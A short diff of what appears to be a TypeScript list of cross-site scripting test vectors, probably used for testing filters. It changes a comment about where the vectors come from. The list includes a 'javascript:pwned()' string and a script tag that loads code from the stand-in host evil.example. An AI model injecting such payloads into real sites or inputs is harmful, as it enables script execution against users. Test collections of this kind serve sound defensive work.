@@ -2,7 +2,7 @@ const entities = (text: string, write: (code: number) => string): string =>
   [...text].map((sign) => write(sign.codePointAt(0) ?? 0)).join('')
 const call = 'javascript:pwned()'
 
-/** A vector for each technique of the OWASP XSS Filter Evasion Cheat Sheet; see README.md beside this file. */
+/** Vectors by technique; README.md beside this file says which come from a published list. */
 export const vectors: readonly (readonly [technique: string, vector: string])[] = [
   ['script without evasion', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
   [
